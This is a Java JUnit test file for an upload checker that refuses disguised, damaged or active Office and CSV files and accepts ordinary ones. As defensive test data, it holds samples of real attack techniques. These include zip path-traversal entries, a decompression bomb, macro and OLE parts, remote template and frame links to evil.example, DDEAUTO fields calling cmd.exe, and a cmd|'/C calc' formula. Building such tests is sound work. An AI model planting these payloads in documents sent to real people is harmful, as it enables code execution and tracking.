package org.uprportal.platform;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_16LE;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.util.EnumSet;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.Set;
import java.util.stream.Stream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.apache.poi.hssf.usermodel.HSSFWorkbook;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.apache.poi.xwpf.usermodel.XWPFDocument;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.uprportal.platform.SentFile.Kind;

/** Files that pretend, are two things at once, or would do something when opened. */
class SentFileTest {

    private static final Set<Kind> ALL = EnumSet.allOf(Kind.class);

    static Stream<Arguments> hostile() throws IOException {
        var word = word();
        var book = book();
        var text = "Session,Text\n1,Ratify\n".getBytes(UTF_8);
        return Stream.of(
                // Not what the name says.
                of("empty.docx", new byte[0], "otherKind"),
                of("empty.csv", new byte[0], "otherKind"),
                of("text.docx", text, "otherKind"),
                of("text.xlsx", text, "otherKind"),
                of("word.xlsx", word, "otherKind"),
                of("book.docx", book, "otherKind"),
                of("word.csv", word, "otherKind"),
                of("word.xls", word, "otherKind"),
                of("word", word, "otherKind"),
                of("word.pdf", word, "otherKind"),
                of("word.docx.exe", word, "otherKind"),
                of("word.docm", word, "otherKind"),
                of("picture.csv", new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n'}, "otherKind"),
                of("paper.csv", "%PDF-1.7\n".getBytes(UTF_8), "otherKind"),
                of("paper.docx", "%PDF-1.7\n".getBytes(UTF_8), "otherKind"),
                of("rich.csv", "{\\rtf1 hello}".getBytes(UTF_8), "otherKind"),
                of("program.csv", "MZ\u0090 text".getBytes(ISO_8859_1), "otherKind"),
                of("script.csv", "#!/bin/sh\nrm".getBytes(UTF_8), "otherKind"),
                of("zip.docx", packed(Map.of("a.txt", "a")), "otherKind"),
                of("renamed.docx", with(word, "word/document.xml", null), "otherKind"),
                of("old.docx", old(), "otherKind"),
                // Two things at once, damaged, or made to fall apart where it is unpacked.
                of("before.docx", joined("GIF89a".getBytes(UTF_8), word), "otherKind"),
                of("after.docx", joined(word, "<script>".getBytes(UTF_8)), "damaged"),
                of("two.docx", joined(word, book), "damaged"),
                of("cut.docx", java.util.Arrays.copyOf(word, word.length - 30), "damaged"),
                of("half.docx", java.util.Arrays.copyOf(word, word.length / 2), "damaged"),
                of("above.docx", with(word, "../../etc/passwd", "x"), "damaged"),
                of("root.docx", with(word, "/etc/passwd", "x"), "damaged"),
                of("windows.docx", with(word, "word\\document.xml", "x"), "damaged"),
                of("drive.docx", with(word, "C:/autoexec", "x"), "damaged"),
                of("twice.docx", with(word, "WORD/DOCUMENT.XML", "<x/>"), "damaged"),
                of("many.docx", many(word), "damaged"),
                of("bomb.docx", with(word, "word/media/image1.png", "0".repeat(110_000_000)), "damaged"),
                // Carries instructions, other files, or fetches something when it is opened.
                of("macro.docx", with(word, "word/vbaProject.bin", "x"), "active"),
                of("macro-type.docx", typed(word, "application/vnd.ms-word.document.macroEnabled.main+xml"), "active"),
                of("macro.xlsx", with(book, "xl/vbaProject.bin", "x"), "active"),
                of("macrosheet.xlsx", with(book, "xl/macrosheets/sheet1.xml", "<x/>"), "active"),
                of("ole.docx", with(word, "word/embeddings/oleObject1.bin", "x"), "active"),
                of("book-within.docx", with(word, "word/embeddings/book.xlsx", "x"), "active"),
                of("zip-within.docx", with(word, "word/media/more.zip", "x"), "active"),
                of("program-within.docx", with(word, "word/media/a.exe", "x"), "active"),
                of("control.docx", with(word, "word/activeX/activeX1.xml", "<x/>"), "active"),
                of("add-in.docx", with(word, "word/webextensions/webextension1.xml", "<x/>"), "active"),
                of("ribbon.docx", with(word, "customUI/customUI.xml", "<x/>"), "active"),
                of("other-book.xlsx", with(book, "xl/externalLinks/externalLink1.xml", "<x/>"), "active"),
                of("template.docx", related("attachedTemplate", "https://evil.example/t.dotm"), "active"),
                of("template-share.docx", related("attachedTemplate", "file://server/share/t.dotm"), "active"),
                of("picture-elsewhere.docx", related("image", "https://evil.example/seen.png"), "active"),
                of("frame.docx", related("frame", "https://evil.example/f.htm"), "active"),
                of("sub-document.docx", related("subDocument", "https://evil.example/d.docx"), "active"),
                of(
                        "object-elsewhere.docx",
                        related("oleObject", "mhtml:https://evil.example/x.html!x-usc:1"),
                        "active"),
                of("dde.docx", instructed("<w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText>"), "active"),
                of(
                        "dde-split.docx",
                        instructed(
                                "<w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\cmd</w:instrText>"),
                        "active"),
                of("dde-simple.docx", instructed("<w:fldSimple w:instr=\" dde excel x\"/>"), "active"),
                of(
                        "include.docx",
                        instructed("<w:instrText>INCLUDETEXT \"https://evil.example\"</w:instrText>"),
                        "active"),
                of("include-picture.docx", instructed("<w:instrText>INCLUDEPICTURE x</w:instrText>"), "active"),
                of(
                        "dde.xlsx",
                        with(book, "xl/worksheets/sheet9.xml", "<worksheet><c><f>cmd|'/C calc'!A0</f></c></worksheet>"),
                        "active"),
                of("old-macro.xls", joined(old(), "_VBA_PROJECT".getBytes(UTF_16LE)), "active"),
                of("old-object.xls", joined(old(), "\u0001Ole10Native".getBytes(UTF_16LE)), "active"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("hostile")
    void isRefused(String name, byte[] bytes, String why) {
        assertThatThrownBy(() -> SentFile.check(name, bytes, ALL))
                .isInstanceOfSatisfying(
                        FileRefused.class, refused -> assertThat(refused.key()).isEqualTo("platform.file." + why));
    }

    static Stream<Arguments> honest() throws IOException {
        return Stream.of(
                Arguments.of("matrix.docx", word(), Kind.DOCX),
                Arguments.of("MATRIX.DOCX", word(), Kind.DOCX),
                Arguments.of("link.docx", related("hyperlink", "https://uprdoc.example/1"), Kind.DOCX),
                Arguments.of(
                        "own-template.docx",
                        related("attachedTemplate", "file:///C:\\Users\\x\\Normal.dotm"),
                        Kind.DOCX),
                Arguments.of(
                        "fields.docx",
                        instructed("<w:instrText> PAGEREF _Toc1 </w:instrText><w:instrText>TOC \\o</w:instrText>"),
                        Kind.DOCX),
                Arguments.of("printer.xlsx", with(book(), "xl/printerSettings/printerSettings1.bin", "x"), Kind.XLSX),
                Arguments.of("book.xlsx", book(), Kind.XLSX),
                Arguments.of("old.xls", old(), Kind.XLS),
                Arguments.of("page.xls", "<table><tr><td>Text</td></tr></table>".getBytes(UTF_8), Kind.XLS),
                Arguments.of("table.csv", "\uFEFFSession;Text\r\n1;Ratifiez le traité\r\n".getBytes(UTF_8), Kind.CSV),
                Arguments.of("western.csv", "1;Ratifiez le trait\u00E9".getBytes(ISO_8859_1), Kind.CSV),
                Arguments.of("wide.csv", "\uFEFFСессия\tТекст".getBytes(UTF_16LE), Kind.CSV));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("honest")
    void whatIsInOrderPasses(String name, byte[] bytes, Kind kind) {
        assertThat(SentFile.check(name, bytes, ALL)).isEqualTo(kind);
    }

    @Test
    void whatIsNotTakenHereIsRefusedHoweverHonest() throws IOException {
        var book = book();
        assertThatThrownBy(() -> SentFile.check("book.xlsx", book, Set.of(Kind.DOCX)))
                .isInstanceOf(FileRefused.class);
    }

    private static Arguments of(String name, byte[] bytes, String why) {
        return Arguments.of(name, bytes, why);
    }

    private static byte[] word() throws IOException {
        try (var document = new XWPFDocument();
                var out = new ByteArrayOutputStream()) {
            document.createParagraph().createRun().setText("140.1 Ratify");
            document.write(out);
            return out.toByteArray();
        }
    }

    private static byte[] book() throws IOException {
        try (var book = new XSSFWorkbook();
                var out = new ByteArrayOutputStream()) {
            book.createSheet("One").createRow(0).createCell(0).setCellValue("Ratify");
            book.write(out);
            return out.toByteArray();
        }
    }

    private static byte[] old() throws IOException {
        try (var book = new HSSFWorkbook();
                var out = new ByteArrayOutputStream()) {
            book.createSheet("One").createRow(0).createCell(0).setCellValue("Ratify");
            book.write(out);
            return out.toByteArray();
        }
    }

    private static byte[] related(String kind, String target) throws IOException {
        return with(
                word(),
                "word/_rels/settings.xml.rels",
                "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId9\""
                        + " Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/" + kind
                        + "\" Target=\"" + target + "\" TargetMode=\"External\"/></Relationships>");
    }

    private static byte[] instructed(String field) throws IOException {
        return with(
                word(),
                "word/footer9.xml",
                "<w:ftr xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:p><w:r>" + field
                        + "</w:r></w:p></w:ftr>");
    }

    private static byte[] typed(byte[] file, String type) {
        var types = parts(file).get("[Content_Types].xml");
        return with(
                file,
                "[Content_Types].xml",
                new String(types, UTF_8)
                        .replace("</Types>", "<Override PartName=\"/x\" ContentType=\"" + type + "\"/></Types>"));
    }

    private static byte[] many(byte[] file) {
        var parts = parts(file);
        for (int i = 0; i < 2100; i++) {
            parts.put("word/" + i + ".xml", "<a/>".getBytes(UTF_8));
        }
        return zipped(parts);
    }

    /** The same file with one part more, another one in its place, or without it. */
    private static byte[] with(byte[] file, String name, String content) {
        var parts = parts(file);
        if (content == null) {
            parts.remove(name);
        } else {
            parts.put(name, content.getBytes(UTF_8));
        }
        return zipped(parts);
    }

    private static Map<String, byte[]> parts(byte[] file) {
        var parts = new LinkedHashMap<String, byte[]>();
        try (var zip = new java.util.zip.ZipInputStream(new java.io.ByteArrayInputStream(file))) {
            for (var entry = zip.getNextEntry(); entry != null; entry = zip.getNextEntry()) {
                parts.put(entry.getName(), zip.readAllBytes());
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return parts;
    }

    private static byte[] packed(Map<String, String> parts) {
        var all = new LinkedHashMap<String, byte[]>();
        parts.forEach((name, content) -> all.put(name, content.getBytes(UTF_8)));
        return zipped(all);
    }

    private static byte[] zipped(Map<String, byte[]> parts) {
        var out = new ByteArrayOutputStream();
        try (var zip = new ZipOutputStream(out)) {
            for (var part : parts.entrySet()) {
                zip.putNextEntry(new ZipEntry(part.getKey()));
                zip.write(part.getValue());
                zip.closeEntry();
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    private static byte[] joined(byte[] first, byte[] second) {
        var out = new ByteArrayOutputStream();
        out.writeBytes(first);
        out.writeBytes(second);
        return out.toByteArray();
    }
}
